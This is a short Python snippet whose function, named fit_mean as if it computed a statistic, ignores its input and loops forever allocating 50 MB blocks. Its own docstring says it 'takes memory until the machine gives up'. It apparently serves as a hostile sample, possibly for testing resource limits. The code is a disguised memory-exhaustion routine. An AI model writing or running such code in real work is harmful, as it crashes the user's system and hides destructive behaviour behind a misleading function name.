"""Takes memory until the machine gives up."""


def fit_mean(X):
    kept = []
    while True:
        kept.append(bytearray(50_000_000))
